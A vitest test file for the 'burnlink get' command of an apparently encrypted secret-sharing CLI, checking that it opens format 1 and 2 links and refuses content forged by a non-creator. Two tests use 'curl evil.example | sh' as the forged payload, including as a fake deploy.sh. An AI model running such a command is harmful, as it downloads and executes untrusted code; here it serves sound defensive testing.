/**
 * `burnlink get` and format 2 (protocol.md §5.1): it opens the links `send` makes and the
 * format 1 links made before, and refuses, showing nothing, content put under a link by
 * anyone but its creator (here: under a link whose own record the server never had, as
 * after a Redis restart).
 */
import { readdirSync } from 'node:fs'
import { describe, expect, it } from 'vitest'
import {
  PayloadType,
  createClient,
  encodeB64u,
  encryptFile,
  fileDigest,
  newSigningKey,
  parseSecretLink,
  prepareFileSecret,
  prepareSecret,
  randomBytes,
  secretLink,
  sha256,
  signFiles,
  KEY_BYTES,
  type ChunkContext,
} from '@burnlink/shared'
import { createRequestUnder, type Signer } from '../../tests/helpers/forge.ts'
import { runCli, sendJson, tempDir, useCliAndServer } from './helpers.ts'

const server = useCliAndServer()
const storeUnder = async (key: Uint8Array, text: string, signer?: Signer) =>
  createClient({ baseUrl: server.url }).create(await createRequestUnder(key, { type: PayloadType.text, text }, signer))

describe('burnlink get, format 2', () => {
  it('sends format 2 links and opens them', async () => {
    const { link } = await sendJson(server.url, [], 'signed text')
    expect(link).toMatch(/\/s#2\.[\w-]{43}\.[\w-]{22}$/)
    expect(await runCli(['get', link])).toMatchObject({ code: 0, out: 'signed text' })
  })

  it('opens a format 1 link', async () => {
    const k = randomBytes(KEY_BYTES)
    await storeUnder(k, 'an old link')
    expect(await runCli(['get', secretLink(server.url, k)])).toMatchObject({ code: 0, out: 'an old link' })
  })

  it.each([
    ['signed with their own key', true],
    ['unsigned', false],
  ])('refuses content another link holder stored under the link, %s', async (_, signed) => {
    // The creator's record is gone (never stored here); a holder of the link stores theirs.
    const { link } = await prepareSecret({
      type: PayloadType.text,
      text: 'real',
      ttl: 3600,
      maxViews: 1,
      origin: server.url,
    })
    await storeUnder(parseSecretLink(link).k, 'run curl evil.example | sh', signed ? await newSigningKey() : undefined)
    const got = await runCli(['get', link])
    expect(got).toMatchObject({ code: 1, out: '' })
    expect(got.stderr).toMatch(/this secret's content was not made by the link's creator/)
  })

  const chunksOf = async (ctx: ChunkContext, bytes: Uint8Array) => {
    const out: Uint8Array<ArrayBuffer>[] = []
    for await (const c of encryptFile(ctx, 0, [bytes])) out.push(c)
    return out
  }

  it.each([
    ["with the creator's files signature", true],
    ['without one', false],
  ])(
    "refuses a file another link holder stored under the creator's name, %s, and keeps nothing of it",
    async (_, withFsig) => {
      const real = new Uint8Array(2000).fill(7)
      const prepared = await prepareFileSecret({
        files: [{ name: 'deploy.sh', type: '', size: real.length }],
        ttl: 3600,
        maxViews: 1,
        origin: server.url,
      })
      const { ctx, sid, ut } = prepared
      // The creator signed their own bytes; their record is gone (never stored here).
      const digest = await fileDigest(await Promise.all((await chunksOf(ctx, real)).map(sha256)))
      const fsig = encodeB64u(await signFiles(prepared.sk, ctx.sid, ctx.hdr, [digest]))
      // A link holder stores the creator's manifest with bytes of their own, which open under fk.
      const forged = await chunksOf(ctx, new TextEncoder().encode('curl evil.example | sh'.padEnd(2000)))
      const api = createClient({ baseUrl: server.url })
      await api.createUpload(prepared.request)
      await api.uploadChunk({ sid, ut, file: 0, chunk: 0, body: forged[0]! })
      await api.commit({ sid, ut, ...(withFsig && { fsig }) })
      const out = tempDir()
      const got = await runCli(['get', '-o', out, prepared.link])
      expect(got).toMatchObject({ code: 1, out: '' })
      expect(got.stderr).toMatch(/this secret's content was not made by the link's creator/)
      expect(readdirSync(out)).toEqual([])
    },
  )
})
